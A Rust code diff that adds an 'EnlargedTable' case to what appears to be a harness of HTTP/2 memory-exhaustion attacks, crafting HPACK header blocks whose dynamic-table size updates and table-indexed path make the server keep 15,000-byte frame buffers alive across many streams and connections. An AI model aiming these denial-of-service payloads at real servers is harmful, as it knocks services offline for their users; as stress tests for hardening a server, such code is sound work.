@@ -55,6 +55,8 @@ enum Attack {
     Streams,
     /// Entries of the dynamic table, each of which keeps the buffer of a frame alive.
     Table,
+    /// The same, in a table that was emptied and at once enlarged again.
+    EnlargedTable,
     /// A header block that does not end.
     OpenBlock,
     /// Small data frames that nobody reads.
@@ -116,11 +118,12 @@ impl Attack {
 
 /// The attacks, each with the limit of descriptors of the server and the number of connections; zero: as many as the hard
 /// limit of descriptors allows.
-const ATTACKS: [(Attack, Option<usize>, usize); 21] = [
+const ATTACKS: [(Attack, Option<usize>, usize); 22] = [
     (Attack::Fields, None, 100),
     (Attack::AllowedFields, None, 250),
     (Attack::Streams, None, 1000),
     (Attack::Table, None, 250),
+    (Attack::EnlargedTable, None, 250),
     (Attack::OpenBlock, None, 1000),
     (Attack::SmallData, None, 250),
     (Attack::Unread, None, 250),
@@ -547,6 +550,20 @@ fn opening(attack: Attack) -> Vec<u8> {
             rest.extend([0x99, 0x74]);
             rest.resize(rest.len() + 15_000, b'x');
             headers(0, true, rest)
+        }),
+        Attack::EnlargedTable => http2(100, |stream| {
+            let mut block = Vec::new();
+            if stream == 0 {
+                // Sizes 0 and 4096.
+                block.extend([0x20, 0x3F, 0xE1, 0x1F]);
+            }
+            // `HEAD`, and a path that is an entry of the table: h2 keeps its buffer, but copies other values.
+            literal(&mut block, 2, b"HEAD");
+            block.extend([0x86, 0x44, 1, b'/']);
+            literal(&mut block, 1, b"localhost");
+            block.extend([0x00, 1, b'f', 0x7F, 0x99, 0x74]);
+            block.resize(block.len() + 15_000, b'x');
+            (block, 0x5)
         }),
         Attack::OpenBlock => http2(1, |_| headers(450, false, Vec::new())),
         Attack::Unread => http2(100, |_| {
